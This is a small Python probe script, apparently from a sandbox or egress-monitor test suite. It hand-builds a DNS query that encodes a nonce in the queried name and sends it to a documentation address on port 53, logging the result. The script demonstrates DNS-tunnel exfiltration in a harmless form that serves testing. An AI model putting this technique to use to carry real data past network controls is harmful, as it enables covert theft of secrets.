"""sock-dns-tunnel: Data in the names one asks for.

Does: sends a query for an unlisted .test name to port 53 of a documentation address. Must be seen: the address (the names
are the gate's affair). Needs: nothing.
"""

import json
import os
import socket
import struct
import sys

NONCE, CASE = sys.argv[1], (*sys.argv[2:], "")[0]
HERE = b"/dev/shm/" + NONCE.encode()


def say(event, op, **facts):
    """One line of ground truth; bytes become hex."""
    print(json.dumps({"event": event, "op": op, "pid": os.getpid(), **facts}, default=bytes.hex), flush=True)


def end(word="performed", reason=""):
    print(json.dumps({"end": word, "reason": reason}), flush=True)
    os._exit(0)


def attempt(work, *arguments):
    """Errno of what the work raised; 0 when it went well."""
    try:
        work(*arguments)
    except OSError as error:
        return error.errno
    return 0


def inet(host, port):
    """An IPv4 address as the kernel is given it."""
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


os.mkdir(HERE)
far = ("192.0.2.53", 53)
name = b"".join(bytes([len(word)]) + word for word in (NONCE.encode(), b"tunnel", b"test")) + b"\0"
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\x01\0\x01"
wrong = attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, query, far)
say("socket", "sendto", addr=inet(*far), errno=wrong)
end()
